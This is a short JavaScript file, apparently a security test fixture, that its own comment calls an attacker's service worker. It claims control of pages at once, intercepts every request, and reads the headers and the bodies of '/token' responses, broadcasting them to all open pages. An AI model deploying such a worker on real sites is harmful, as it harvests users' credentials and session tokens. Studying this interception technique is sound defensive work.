/** An attacker's service worker: it sees each request of the pages it controls, and reports it to every page. */
const tell = async (text) => {
  for (const client of await self.clients.matchAll({ includeUncontrolled: true, type: "all" }))
    client.postMessage(text);
};
self.oninstall = () => self.skipWaiting();
self.onactivate = (event) => event.waitUntil(self.clients.claim());
self.onfetch = (event) => {
  const { url, headers } = event.request;
  event.respondWith(
    (async () => {
      const response = await fetch(event.request);
      const body = url.includes("/token") ? await response.clone().text() : "";
      await tell(`${url} ${JSON.stringify([...headers])} ${body}`);
      return response;
    })(),
  );
};
